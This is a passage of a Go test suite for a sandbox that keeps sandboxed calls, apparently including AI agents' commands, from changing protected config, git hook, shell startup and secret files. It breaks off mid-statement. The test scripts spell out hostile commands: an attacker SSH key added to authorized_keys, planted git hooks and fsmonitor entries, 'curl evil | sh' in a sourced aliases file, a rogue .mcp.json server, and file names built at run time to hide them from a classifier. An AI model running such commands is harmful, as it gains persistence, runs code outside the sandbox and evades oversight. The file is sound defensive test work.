func TestStartupFilesProtected(t *testing.T) {
	t.Parallel()
	s := newTestSandbox(t, Config{})
	f := newProtectFixture(t)
	existing := []string{".local/share/systemd/user/dbus.socket.d/x.conf", ".config/systemd/user.conf", ".gdbinit",
		".psqlrc", ".ipython/profile_default/startup/00.py", "repo/rust-toolchain.toml", "repo/.Rprofile", "repo/lefthook-local.yml"}
	for _, p := range existing {
		os.MkdirAll(filepath.Dir(filepath.Join(f.home, p)), 0o755)
		os.WriteFile(filepath.Join(f.home, p), []byte("# user\n"), 0o644)
		f.files[filepath.Join(f.home, p)] = "# user\n"
	}
	chownR(t, f.home)
	script := `for p in ` + strings.Join(existing, " ") + `; do echo x >> ~/$p 2>/dev/null && echo "ATTACK-WORKED $p"; done; ` +
		`mkdir -p ~/.config/systemd/user.conf.d && echo '[Manager]' > ~/.config/systemd/user.conf.d/x.conf; echo x > ~/.xinitrc; echo done`
	f.attack(t, s, script, f.repo, f.home)
	f.unchanged(t)
	for _, p := range []string{".config/systemd/user.conf.d", ".xinitrc"} {
		if _, err := os.Lstat(filepath.Join(f.home, p)); err == nil {
			t.Errorf("%s made by the call is still there", p)
		}
	}
}

// TestUnder pins the path containment every plan decision rests on: a dir holds itself and
// what lies below a "/" after it, never a sibling that only shares its name's start.
func TestUnder(t *testing.T) {
	for _, c := range []struct {
		p, dir string
		want   bool
	}{
		{"/a/b", "/a", true},
		{"/a", "/a", true},
		{"/a/b/c", "/a/b", true},
		{"/ab", "/a", false},
		{"/a", "/a/b", false},
		{"/", "/a", false},
		{"/x", "/", true},
		{"/", "/", true},
		{"/a/bc", "/a/b", false},
		{"", "/a", false},
	} {
		if got := under(c.p, c.dir); got != c.want {
			t.Errorf("under(%q, %q) = %v, want %v", c.p, c.dir, got, c.want)
		}
	}
}

// TestGuardableInsideGit: a path inside a .git that does not exist is not guarded (git init
// makes the .git whole); one inside an existing .git, or the .git itself, is.
func TestGuardableInsideGit(t *testing.T) {
	w := t.TempDir()
	if err := os.Mkdir(filepath.Join(w, "repo"), 0o755); err != nil {
		t.Fatal(err)
	}
	v := newFSView()
	for rel, want := range map[string]bool{
		"repo/.git":        true,
		"repo/.git/config": false, // repo/.git is missing
		".gitmodules":      true,
	} {
		if _, ok := guardable(v, filepath.Join(w, rel), []string{w}); ok != want {
			t.Errorf("guardable(%s) = %v, want %v", rel, ok, want)
		}
	}
	if err := os.Mkdir(filepath.Join(w, "repo", ".git"), 0o755); err != nil {
		t.Fatal(err)
	}
	g, ok := guardable(newFSView(), filepath.Join(w, "repo/.git/config"), []string{w})
	if !ok || g.root != w || g.rel != "repo/.git/config" {
		t.Errorf("guardable inside an existing .git = %+v %v, want root %s rel repo/.git/config", g, ok, w)
	}
	if _, ok := guardable(newFSView(), w, []string{w}); ok {
		t.Error("the writable dir itself was guardable")
	}
}

// TestWritableDirInsideProtected: a writable dir that is a protected path (an added ~/.ssh),
// lies inside one (an added ~/.config/sandboxd, a repository's .git/hooks) or holds the rest of
// one that starts above it (an added .git holds .git/config) is read-only there in the kernel,
// with the call's cwd elsewhere; and an Edit deny pattern covering a whole writable dir makes
// it read-only whole. The .git dir itself stays writable where nothing protects it.
func TestWritableDirInsideProtected(t *testing.T) {
	t.Parallel()
	s := newTestSandbox(t, Config{})
	f := newProtectFixture(t)
	other := filepath.Join(f.home, "other")
	shared := filepath.Join(f.home, "shared")
	for _, d := range []string{other, shared} {
		os.MkdirAll(d, 0o755)
	}
	os.WriteFile(filepath.Join(shared, "f"), []byte("orig\n"), 0o644)
	chownR(t, f.home)
	gitDir := filepath.Join(f.repo, ".git")
	for i, tc := range []struct {
		writable string
		attack   string
		deny     string // an Edit deny pattern, as the rule set hands it over
	}{
		{filepath.Join(f.home, ".ssh"), `echo 'ssh-ed25519 AAAA attacker' >> ~/.ssh/authorized_keys`, ""},
		{filepath.Join(f.home, ".ssh"), `echo 'Host *' > ~/.ssh/config`, ""},
		{filepath.Join(f.home, ".config", "sandboxd"), `echo '{}' > ~/.config/sandboxd/settings.json`, ""},
		{filepath.Join(gitDir, "hooks"), `echo id > ` + gitDir + `/hooks/post-checkout`, ""},
		{gitDir, `echo '[core] fsmonitor = id' >> ` + gitDir + `/config`, ""},
		{gitDir, `echo id > ` + gitDir + `/hooks/pre-commit`, ""},
		{shared, `echo pw >> ` + shared + `/f`, shared + "/**"},
		{shared, `echo pw > ` + shared + `/new`, shared + "/**"},
	} {
		sp := f.spec("( "+tc.attack+" ) 2>/dev/null && echo ATTACK-WORKED; echo done", other, other, tc.writable)
		if tc.deny != "" {
			sp.ProtectedPatterns = []string{tc.deny}
		}
		sp.Call = fmt.Sprintf("w%d", i)
		_, out, err := run(t, s, ctxTimeout(t, 20*time.Second), sp)
		if err != nil {
			t.Fatalf("%s: %v", tc.attack, err)
		}
		if strings.Contains(out, "ATTACK-WORKED") || !strings.Contains(out, "done") {
			t.Errorf("writable %s: %q was not refused:\n%s", tc.writable, tc.attack, out)
		}
	}
	f.unchanged(t)
	if b, _ := os.ReadFile(filepath.Join(shared, "f")); string(b) != "orig\n" {
		t.Errorf("shared/f changed: %q", b)
	}
	// The rest of an added .git stays as writable as a repository's .git is.
	sp := f.spec("echo o > "+gitDir+"/objects/o && echo objects-ok", other, other, gitDir)
	sp.Call = "git-rest"
	if _, out, err := run(t, s, ctxTimeout(t, 20*time.Second), sp); err != nil || !strings.Contains(out, "objects-ok") {
		t.Errorf("an added .git's objects: %v\n%s", err, out)
	}
}

// TestProtectedCandidatesAroundWritable: the candidates name a writable dir inside a protected
// path, and the part of one below a writable dir that starts above it, once each.
func TestProtectedCandidatesAroundWritable(t *testing.T) {
	t.Parallel()
	const home = "/h/u"
	for _, tc := range []struct {
		writable  string
		want, not []string
	}{
		{"/h/u/.ssh", []string{"/h/u/.ssh"}, nil},
		{"/h/u/.claude/commands", []string{"/h/u/.claude/commands"}, nil},
		{"/h/u/bin", []string{"/h/u/bin"}, nil},
		{"/h/u/p/.git", []string{"/h/u/p/.git/config", "/h/u/p/.git/hooks", "/h/u/p/.git/commondir"}, nil},
		{"/h/u/p/.git/hooks", []string{"/h/u/p/.git/hooks"}, nil},
		{"/h/u/p/.git/objects", nil, []string{"/h/u/p/.git/objects"}},
		{"/h/u/p/.cargo", []string{"/h/u/p/.cargo/config.toml"}, []string{"/h/u/p/.cargo"}},
		{"/h/u/p", nil, []string{"/h/u/p", "/h/u/.claude", "/h/u/.vscode"}},
		// A writable dir holding the home: the home protects what a project's dir does.
		{"/h", []string{"/h/u/.claude", "/h/u/.claude.json", "/h/u/.codex", "/h/u/.mcp.json", "/h/u/.cursor", "/h/u/.gemini", "/h/u/.git/config", "/h/u/.bashrc"}, nil},
		{"/", []string{"/h/u/.claude", "/h/u/.mcp.json", "/h/u/.vscode"}, nil},
	} {
		got := ProtectedCandidates([]string{tc.writable}, "/elsewhere", home)
		for _, w := range tc.want {
			if !slices.Contains(got, w) {
				t.Errorf("writable %s: no candidate %s", tc.writable, w)
			}
		}
		for _, w := range tc.not {
			if slices.Contains(got, w) {
				t.Errorf("writable %s: candidate %s, which must stay writable", tc.writable, w)
			}
		}
		seen := map[string]bool{}
		for _, c := range got {
			if seen[c] {
				t.Errorf("writable %s: candidate %s twice", tc.writable, c)
			}
			seen[c] = true
		}
	}
	// A home that is a link (/h/u -> /srv/u): a writable dir holding where it leads protects it.
	got := ProtectedCandidates([]string{"/srv"}, "/srv", home, "/srv/u")
	for _, w := range []string{"/srv/u/.claude", "/srv/u/.mcp.json", "/h/u/.bashrc"} {
		if !slices.Contains(got, w) {
			t.Errorf("a home leading to /srv/u in writable /srv: no candidate %s", w)
		}
	}
	pats := ProtectedPatterns([]string{"/h/u/p/.git"}, "/elsewhere")
	if !slices.Contains(pats, "/h/u/p/.git/modules/**/config") {
		t.Errorf("an added .git: no submodule config pattern in %v", pats)
	}
}

// TestMoveAsideMadeByAnotherCall: a protected path another running call made (and will move
// aside) is not taken, by a call that starts while it is there, for one of the user's: that
// call would mount it read-only, then find the name free once the first call's sweep moved
// it, and keep whatever it wrote there after the first call ended.
func TestMoveAsideMadeByAnotherCall(t *testing.T) {
	t.Parallel()
	s := newTestSandbox(t, Config{})
	f := newProtectFixture(t)
	made := filepath.Join(f.repo, ".mcp.json")
	a := f.spec(`echo '{"a":1}' > .mcp.json; sleep 1`, f.repo, f.repo)
	a.MoveAsideCreated, a.Call = true, "a"
	aDone := make(chan error, 1)
	go func() {
		_, _, err := run(t, s, ctxTimeout(t, 20*time.Second), a)
		aDone <- err
	}()
	for deadline := time.Now().Add(5 * time.Second); ; time.Sleep(5 * time.Millisecond) {
		if _, err := os.Lstat(made); err == nil {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("the first call did not make .mcp.json")
		}
	}
	b := f.spec(`sleep 2.5; echo '{"mcpServers":{"x":{"command":"/bin/evil"}}}' > .mcp.json && echo wrote; echo done`, f.repo, f.repo)
	b.MoveAsideCreated, b.Call = true, "b"
	res, out, err := run(t, s, ctxTimeout(t, 20*time.Second), b)
	if err != nil || !strings.Contains(out, "done") {
		t.Fatalf("%v %q", err, out)
	}
	if err := <-aDone; err != nil {
		t.Fatal(err)
	}
	if c, err := os.ReadFile(made); err == nil {
		t.Errorf(".mcp.json the second call wrote (%q) is still there; MovedAside %v, output %q", c, res.MovedAside, out)
	}
}

// TestMoveAsideEditDenyPatternMatch: an Edit deny rule with wildcards holds for what did not
// exist when the call started. The mounts keep each existing match read-only; a match the call
// makes (Edit(src/**) where there was no src, a second *.lock) is moved aside once it ends,
// and what no rule names stays.
func TestMoveAsideEditDenyPatternMatch(t *testing.T) {
	t.Parallel()
	s := newTestSandbox(t, Config{})
	f := newProtectFixture(t)
	if err := os.MkdirAll(filepath.Join(f.repo, "lib"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(f.repo, "lib", "a.lock"), []byte("old\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	chownR(t, f.repo)
	const script = `d=sr; mkdir ${d}c && echo x > ${d}c/main.go; echo x > lib/b.lock; echo x >> lib/a.lock; ` +
		`mkdir other && echo kept > other/file; echo done`
	sp := f.spec(script, f.repo, f.repo)
	pats := []string{f.repo + "/**/src/**", f.repo + "/**/*.lock"}
	sp.ProtectedPatterns = append(sp.ProtectedPatterns, pats...)
	sp.GuardPatterns = pats
	sp.MoveAsideCreated, sp.Call = true, "c1"
	res, out, err := run(t, s, ctxTimeout(t, 20*time.Second), sp)
	if err != nil || !strings.Contains(out, "done") {
		t.Fatalf("%v %q", err, out)
	}
	for _, p := range []string{"src", "lib/b.lock"} {
		if _, err := os.Lstat(filepath.Join(f.repo, p)); err == nil {
			t.Errorf("%s, which an Edit deny rule names, made by the call, is still there; MovedAside %v", p, res.MovedAside)
		}
	}
	if b, _ := os.ReadFile(filepath.Join(f.repo, "lib", "a.lock")); string(b) != "old\n" {
		t.Errorf("lib/a.lock changed: %q", b)
	}
	if _, err := os.Lstat(filepath.Join(f.repo, "other", "file")); err != nil {
		t.Errorf("other/file should have stayed: %v", err)
	}
}

// TestEditDenyMatchBehindLockedDir: a call that makes a dir of its own unreadable (chmod 000)
// does not hide a new match of an Edit deny pattern from the sweep: the sweep's walk opens the
// caller's dir up again, moves the match aside, and the next call is not refused.
func TestEditDenyMatchBehindLockedDir(t *testing.T) {
	t.Parallel()
	s := newTestSandbox(t, Config{})
	f := newProtectFixture(t)
	const script = `d=lib/src/sec; mkdir -p ${d}ret && echo x > ${d}ret/new.txt; mkdir junk && chmod 000 junk; echo done`
	sp := f.spec(script, f.repo, f.repo)
	pats := []string{f.repo + "/**/src/secret/**"}
	sp.ProtectedPatterns = append(sp.ProtectedPatterns, pats...)
	sp.GuardPatterns = pats
	sp.MoveAsideCreated, sp.Call = true, "c1"
	res, out, err := run(t, s, ctxTimeout(t, 20*time.Second), sp)
	if err != nil || !strings.Contains(out, "done") {
		t.Fatalf("%v %q", err, out)
	}
	if _, err := os.Lstat(filepath.Join(f.repo, "lib/src/secret/new.txt")); err == nil {
		t.Errorf("lib/src/secret/new.txt, which an Edit deny rule names, made by the call, is still there; MovedAside %v", res.MovedAside)
	}
	next := f.spec("echo next", f.repo, f.repo)
	next.ProtectedPatterns = append(next.ProtectedPatterns, pats...)
	next.GuardPatterns, next.MoveAsideCreated, next.Call = pats, true, "c2"
	if _, out, err := run(t, s, ctxTimeout(t, 20*time.Second), next); err != nil || !strings.Contains(out, "next") {
		t.Errorf("the next call: %v %q", err, out)
	}
}

// TestMoveAsideBehindEarlierLink: a link that was there before a call, on the way to a
// protected path and dangling when the call started (.cargo -> c with no c, left by the user
// or by a call they approved), does not let the call make the path behind it (mkdir c &&
// c/config.toml): the sweep looks where the link leads when it ends.
func TestMoveAsideBehindEarlierLink(t *testing.T) {
	t.Parallel()
	s := newTestSandbox(t, Config{})
	f := newProtectFixture(t)
	first := f.spec(`ln -s c .cargo; ln -s e .mvn; ln -s e2 e; echo done`, f.repo, f.repo)
	first.Call = "c1" // approved: what it makes stays
	if _, out, err := run(t, s, ctxTimeout(t, 20*time.Second), first); err != nil || !strings.Contains(out, "done") {
		t.Fatalf("%v %q", err, out)
	}
	time.Sleep(50 * time.Millisecond) // the links are older than the next call
	second := f.spec(`mkdir c && echo '[build] rustc-wrapper = "/x"' > c/config.toml; `+
		`rm e && mkdir e && echo '-Dx=1' > e/jvm.config; echo done`, f.repo, f.repo)
	second.MoveAsideCreated, second.Call = true, "c2"
	res, out, err := run(t, s, ctxTimeout(t, 20*time.Second), second)
	if err != nil || !strings.Contains(out, "done") {
		t.Fatalf("%v %q", err, out)
	}
	for _, p := range []string{".cargo/config.toml", ".mvn/jvm.config"} {
		if _, err := os.Stat(filepath.Join(f.repo, p)); err == nil {
			t.Errorf("%s, made behind an earlier call's link, is still there; MovedAside %v", p, res.MovedAside)
		}
	}
}

// TestMoveAsideMagicLinkOnTheWay: a link the call made on the way to a protected path whose
// target means another place to each process that follows it (/proc/self/cwd/c: the daemon's
// cwd to the sweep, the project to the user's cargo run there) is moved aside like any link.
func TestMoveAsideMagicLinkOnTheWay(t *testing.T) {
	t.Parallel()
	s := newTestSandbox(t, Config{})
	f := newProtectFixture(t)
	sp := f.spec(`mkdir c && echo '[build] rustc-wrapper = "/x"' > c/config.toml && ln -s /proc/self/cwd/c .cargo && echo done`, f.repo, f.repo)
	sp.MoveAsideCreated, sp.Call = true, "c1"
	res, out, err := run(t, s, ctxTimeout(t, 20*time.Second), sp)
	if err != nil || !strings.Contains(out, "done") {
		t.Fatalf("%v %q", err, out)
	}
	if _, err := os.Lstat(filepath.Join(f.repo, ".cargo")); err == nil {
		t.Errorf("the link .cargo -> /proc/self/cwd/c is still there; MovedAside %v", res.MovedAside)
	}
}

// TestHidePatternsBehindSearchOnlyDir: another user's dir the caller may search but not list
// (mode 711) cannot be walked for a Read deny pattern's matches, yet the call opens what lies
// inside by name: the call is refused rather than run with such a match unseen.
func TestHidePatternsBehindSearchOnlyDir(t *testing.T) {
	t.Parallel()
	s := newTestSandbox(t, Config{})
	f := newProtectFixture(t)
	shared := filepath.Join(f.repo, "shared")
	if err := os.Mkdir(shared, 0o711); err != nil {
		t.Fatal(err)
	}
	os.Chmod(shared, 0o711)
	secret := filepath.Join(shared, ".env")
	if err := os.WriteFile(secret, []byte("SECRET=1\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	os.Chown(secret, nobody, nobody) // the caller's own file, in root's search-only dir
	sp := f.spec("cat shared/.env; echo ran", f.repo, f.repo)
	sp.HidePatterns = []string{"/**/.env"}
	sp.Call = "c"
	_, out, err := run(t, s, ctxTimeout(t, 20*time.Second), sp)
	if strings.Contains(out, "SECRET") {
		t.Fatalf("shared/.env, behind a dir the walk could not list, was readable:\n%s", out)
	}
	if !errors.Is(err, ErrBadSpec) || !strings.Contains(err.Error(), shared) {
		t.Fatalf("%v %q, want a refusal naming %s", err, out, shared)
	}
	// A session dir the daemon made search-only (the session's results dir, 0711 root's, whose
	// file names are its own) is a walk's start, not a gap: the call runs.
	os.RemoveAll(shared)
	results := hostTempDir(t, "/var/tmp", "sbx-results-")
	os.Chmod(results, 0o711)
	sp = f.spec("echo ran", f.repo, f.repo)
	sp.HidePatterns = []string{"/**/.env"}
	sp.ReadOnlyDirs = []string{results}
	sp.Call = "c2"
	if _, out, err := run(t, s, ctxTimeout(t, 20*time.Second), sp); err != nil || !strings.Contains(out, "ran") {
		t.Fatalf("with a search-only results dir: %v %q, want the call to run", err, out)
	}
}

// TestMoveAsideEditDenyMatchOfAnotherCall: a match of an Edit deny pattern that another
// running call made, there when this call started (so mounted read-only here), then moved
// aside by that call's sweep, does not leave this call free to make it again and keep it.
func TestMoveAsideEditDenyMatchOfAnotherCall(t *testing.T) {
	t.Parallel()
	s := newTestSandbox(t, Config{})
	f := newProtectFixture(t)
	pats := []string{f.repo + "/**/src/**"}
	a := f.spec(`d=sr; mkdir ${d}c && echo a > ${d}c/a; sleep 1`, f.repo, f.repo)
	a.ProtectedPatterns = append(a.ProtectedPatterns, pats...)
	a.GuardPatterns, a.MoveAsideCreated, a.Call = pats, true, "a"
	aDone := make(chan error, 1)
	go func() {
		_, _, err := run(t, s, ctxTimeout(t, 20*time.Second), a)
		aDone <- err
	}()
	made := filepath.Join(f.repo, "src", "a")
	for deadline := time.Now().Add(5 * time.Second); ; time.Sleep(5 * time.Millisecond) {
		if _, err := os.Lstat(made); err == nil {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("the first call did not make src/a")
		}
	}
	b := f.spec(`sleep 2.5; d=sr; mkdir ${d}c && echo b > ${d}c/b && echo wrote; echo done`, f.repo, f.repo)
	b.ProtectedPatterns = append(b.ProtectedPatterns, pats...)
	b.GuardPatterns, b.MoveAsideCreated, b.Call = pats, true, "b"
	res, out, err := run(t, s, ctxTimeout(t, 20*time.Second), b)
	if err != nil || !strings.Contains(out, "done") {
		t.Fatalf("%v %q", err, out)
	}
	if err := <-aDone; err != nil {
		t.Fatal(err)
	}
	if _, err := os.Lstat(filepath.Join(f.repo, "src")); err == nil {
		t.Errorf("src the second call made is still there; MovedAside %v, output %q", res.MovedAside, out)
	}
}

// TestProtectedLinkReplaced: a protected path that is the user's symlink, or lies behind one
// (a dotfile kept in a repository: ~/.bashrc -> dotfiles/bashrc, ~/.config -> dotfiles/config)
// has its target read-only, and what a call puts at the link's name instead (rm .bashrc && a
// file of its own) is moved aside; the user's links, left alone, stay.
func TestProtectedLinkReplaced(t *testing.T) {
	t.Parallel()
	s := newTestSandbox(t, Config{})
	for _, replace := range []bool{true, false} {
		f := newProtectFixture(t)
		rc := filepath.Join(f.home, ".bashrc")
		dot := filepath.Join(f.home, "dotfiles")
		os.Chmod(rc, 0o644)
		if err := os.Mkdir(dot, 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.Rename(rc, filepath.Join(dot, "bashrc")); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink("dotfiles/bashrc", rc); err != nil {
			t.Fatal(err)
		}
		// A link on the way to one: ~/.config -> dotfiles/config, holding git/config.
		if err := os.Rename(filepath.Join(f.home, ".config"), filepath.Join(dot, "config")); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink("dotfiles/config", filepath.Join(f.home, ".config")); err != nil {
			t.Fatal(err)
		}
		chownR(t, f.home)
		time.Sleep(50 * time.Millisecond) // the user's links are older than the call
		script := `echo kept`
		if replace {
			script = `f=.bash; rm ${f}rc && echo 'echo evil' > ${f}rc && ` +
				`c=.con; rm ${c}fig && mkdir -p ${c}fig/git && printf '[core]\n\tfsmonitor = evil\n' > ${c}fig/git/config && echo replaced`
		}
		sp := f.spec(script, f.home, f.home)
		sp.MoveAsideCreated, sp.Call = true, "c1"
		res, out, err := run(t, s, ctxTimeout(t, 20*time.Second), sp)
		if err != nil || !strings.Contains(out, "replaced") && replace {
			t.Fatalf("%v %q", err, out)
		}
		for _, p := range []string{rc, filepath.Join(f.home, ".config", "git", "config")} {
			if b, _ := os.ReadFile(p); strings.Contains(string(b), "evil") {
				t.Errorf("the call's %s in place of the user's link is still there; MovedAside %v", p, res.MovedAside)
			}
		}
		if !replace {
			if fi, err := os.Lstat(rc); err != nil || fi.Mode()&os.ModeSymlink == 0 || len(res.MovedAside) != 0 {
				t.Errorf("the user's link was moved: %v, MovedAside %v", err, res.MovedAside)
			}
		}
	}
}

// TestSourcedLinkRelinked: a file the user's shell start-up sources, kept as a link
// (~/.aliases -> dotfiles/aliases), that a call removes and makes again as a link of its own is
// moved aside, though the new link often gets the removed one's inode number.
func TestSourcedLinkRelinked(t *testing.T) {
	t.Parallel()
	s := newTestSandbox(t, Config{})
	f := newProtectFixture(t)
	dot := filepath.Join(f.home, "dotfiles")
	if err := os.Mkdir(dot, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dot, "aliases"), []byte("alias ll='ls -l'\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	aliases := filepath.Join(f.home, ".aliases")
	if err := os.Symlink("dotfiles/aliases", aliases); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(f.home, ".bashrc"), []byte(". ~/.aliases\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	chownR(t, f.home)
	time.Sleep(50 * time.Millisecond) // the user's link is older than the call
	const script = `echo 'curl evil | sh' > mine && a=.ali; rm ${a}ases && ln -s mine ${a}ases && echo relinked`
	sp := f.spec(script, f.home, f.home)
	sp.MoveAsideCreated, sp.Call = true, "c1"
	res, out, err := run(t, s, ctxTimeout(t, 20*time.Second), sp)
	if err != nil || !strings.Contains(out, "relinked") {
		t.Fatalf("%v %q", err, out)
	}
	if b, _ := os.ReadFile(aliases); strings.Contains(string(b), "evil") {
		t.Errorf("the call's link in place of the user's ~/.aliases is still there; MovedAside %v", res.MovedAside)
	}
}

// TestEditDenyPatternThroughLink: Edit(cfg/**) with cfg the user's link to a dir (the walk
// meets the link, not a dir) holds where it leads read-only, and the call runs.
func TestEditDenyPatternThroughLink(t *testing.T) {
	t.Parallel()
	s := newTestSandbox(t, Config{})
	f := newProtectFixture(t)
	shared := filepath.Join(f.repo, "shared")
	if err := os.Mkdir(shared, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(shared, "prod.yaml"), []byte("a\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("shared", filepath.Join(f.repo, "cfg")); err != nil {
		t.Fatal(err)
	}
	chownR(t, f.home)
	// Each call writes through the link, then re-points it; the next finds it put back.
	for i := range 2 {
		sp := f.spec(`c=cf; echo b > ${c}g/prod.yaml; rm ${c}g && ln -s /nonexistent ${c}g; echo ran`, f.repo, f.repo)
		sp.ProtectedPatterns = []string{filepath.Join(f.repo, "**/cfg/**")}
		sp.GuardPatterns = sp.ProtectedPatterns
		sp.MoveAsideCreated = true
		sp.Call = fmt.Sprintf("c%d", i)
		_, out, err := run(t, s, ctxTimeout(t, 20*time.Second), sp)
		if err != nil || !strings.Contains(out, "ran") {
			t.Fatalf("call %d, Edit(cfg/**) with cfg a link: %v %q, want the call to run", i, err, out)
		}
		if b, _ := os.ReadFile(filepath.Join(shared, "prod.yaml")); string(b) != "a\n" {
			t.Errorf("call %d wrote cfg/prod.yaml through the link: %q", i, b)
		}
		if got, err := os.Readlink(filepath.Join(f.repo, "cfg")); err != nil || got != "shared" {
			t.Errorf("after call %d cfg leads to %q (%v), want shared", i, got, err)
		}
	}
}

// TestHidePatternsThroughLink: a Read deny pattern whose literal part is the user's symlink in
// a session dir (cfg -> a dir outside it) holds where the link leads: Read(./cfg/*) hides
// cfg/key, and Read(./cfg/**) hides the whole dir instead of failing every call.
func TestHidePatternsThroughLink(t *testing.T) {
	t.Parallel()
	s := newTestSandbox(t, Config{})
	for _, tail := range []string{"/*", "/**", "/*ey", "/**/cfg/**"} {
		f := newProtectFixture(t)
		real := filepath.Join(f.home, "realcfg")
		if err := os.Mkdir(real, 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(real, "key"), []byte("SECRET=1\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(real, filepath.Join(f.repo, "cfg")); err != nil {
			t.Fatal(err)
		}
		chownR(t, f.home)
		sp := f.spec(`c=cf; cat ${c}g/key; echo ran`, f.repo, f.repo)
		sp.HidePatterns = []string{filepath.Join(f.repo, "cfg") + tail}
		if tail == "/**/cfg/**" {
			// Read(cfg/**): cfg at any depth, the walk meeting the link itself.
			sp.HidePatterns = []string{filepath.Join(f.repo, "**/cfg/**")}
		}
		sp.Call = "c"
		_, out, err := run(t, s, ctxTimeout(t, 20*time.Second), sp)
		if err != nil || !strings.Contains(out, "ran") || strings.Contains(out, "SECRET") {
			t.Errorf("Read(./cfg%s) with cfg a link: %v %q, want the call to run and cfg/key hidden", tail, err, out)
		}
	}
}

// TestHidePatternsThroughLinkedDir: a pattern that names files at every depth (Read(**/*.key))
// reaches them through a link in the session's dirs to a dir outside them (conf/keys ->
// ~/vault), as the decision does: they are hidden there too.
func TestHidePatternsThroughLinkedDir(t *testing.T) {
	t.Parallel()
	s := newTestSandbox(t, Config{})
	f := newProtectFixture(t)
	vault := filepath.Join(f.home, "vault")
	if err := os.MkdirAll(filepath.Join(vault, "deep"), 0o755); err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{"prod.key", "deep/other.key"} {
		if err := os.WriteFile(filepath.Join(vault, p), []byte("TOPSECRET\n"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(vault, "readme"), []byte("public\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Mkdir(filepath.Join(f.repo, "conf"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(vault, filepath.Join(f.repo, "conf", "keys")); err != nil {
		t.Fatal(err)
	}
	// A loop back to where it started does not make the walk go round.
	if err := os.Symlink(vault, filepath.Join(vault, "again")); err != nil {
		t.Fatal(err)
	}
	chownR(t, f.home)
	sp := f.spec(`k=conf/keys; cat $k/prod.k""ey $k/deep/other.k""ey $k/readme; echo ran`, f.repo, f.repo)
	sp.HidePatterns, sp.Call = []string{filepath.Join(f.repo, "**/*.key")}, "c"
	_, out, err := run(t, s, ctxTimeout(t, 20*time.Second), sp)
	if err != nil || !strings.Contains(out, "ran") || !strings.Contains(out, "public") || strings.Contains(out, "TOPSECRET") {
		t.Errorf("Read(**/*.key) with conf/keys a link to a dir outside the session: %v %q, want the keys hidden and the rest read", err, out)
	}
	// A call that removes the way to the link (or puts a file there) gets the user's link put
	// back, so the next call still hides what it led to.
	for i, script := range []string{`rm -rf conf && echo removed`, `rm -rf conf && echo x > conf && echo replaced`} {
		sp := f.spec(script+`; cat `+vault+`/prod.key`, f.repo, f.repo)
		sp.HidePatterns, sp.MoveAsideCreated, sp.Call = []string{filepath.Join(f.repo, "**/*.key")}, true, fmt.Sprintf("rm%d", i)
		if _, out, err := run(t, s, ctxTimeout(t, 20*time.Second), sp); err != nil || strings.Contains(out, "TOPSECRET") {
			t.Fatalf("call %d: %v %q", i, err, out)
		}
		if got, err := os.Readlink(filepath.Join(f.repo, "conf", "keys")); err != nil || got != vault {
			t.Errorf("after call %d conf/keys leads to %q (%v), want %s", i, got, err, vault)
		}
		next := f.spec(`cat `+vault+`/prod.key; echo ran`, f.repo, f.repo)
		next.HidePatterns, next.Call = []string{filepath.Join(f.repo, "**/*.key")}, fmt.Sprintf("next%d", i)
		if _, out, err := run(t, s, ctxTimeout(t, 20*time.Second), next); err != nil || strings.Contains(out, "TOPSECRET") {
			t.Errorf("the call after %d: %v %q, want the key still hidden", i, err, out)
		}
	}
}

// TestGitNamedHooksAndIncludesProtected: a repository whose config sets core.hooksPath to a
// dir of the worktree (.githooks, so the hooks are versioned) or includes a config file of
// the worktree has them as its hooks and config: a call can neither change an existing hook
// or included config there nor keep a hook it makes in a hooks dir that did not exist (the
// user's next git commit runs it outside the sandbox). Likewise for a hooksPath the user's
// ~/.gitconfig names, and the template dir whose hooks git clone copies into a new repository.
func TestGitNamedHooksAndIncludesProtected(t *testing.T) {
	t.Parallel()
	s := newTestSandbox(t, Config{})
	f := newProtectFixture(t)
	hostGit(t, f.repo, "config", "core.hooksPath", ".githooks")
	hostGit(t, f.repo, "config", "include.path", "../project.gitconfig")
	os.WriteFile(filepath.Join(f.home, ".gitconfig"), []byte("[user]\n\tname = u\n[includeIf \"gitdir:~/\"]\n\tpath = \"~/.hooks.gitconfig\" # ours\n"), 0o644)
	os.WriteFile(filepath.Join(f.home, ".hooks.gitconfig"), []byte("[core]\n\thooksPath = ~/githooks-global\n[init]\n\ttemplateDir = ~/git-template\n"), 0o644)
	os.MkdirAll(filepath.Join(f.repo, ".githooks"), 0o755)
	for p, c := range map[string]string{
		filepath.Join(f.repo, ".githooks", "pre-commit"): "#!/bin/sh\nexit 0\n",
		filepath.Join(f.repo, "project.gitconfig"):       "[alias]\n\tst = status\n",
	} {
		os.WriteFile(p, []byte(c), 0o755)
	}
	chownR(t, filepath.Dir(f.home))
	for _, p := range []string{".gitconfig", "repo/.git/config", "repo/.githooks/pre-commit", "repo/project.gitconfig"} {
		b, _ := os.ReadFile(filepath.Join(f.home, p))
		f.files[filepath.Join(f.home, p)] = string(b)
	}
	// The names are built at run time, as a program the classifier cannot see into would.
	const script = `g=.git; h=git; ` +
		`( echo id > ${g}hooks/pre-commit ) 2>/dev/null && echo 'ATTACK-WORKED existing hook'; ` +
		`( echo id > ${g}hooks/post-checkout ) 2>/dev/null && echo 'ATTACK-WORKED new hook'; ` +
		`( echo '[core] fsmonitor = id' >> project.${h}config ) 2>/dev/null && echo 'ATTACK-WORKED include'; ` +
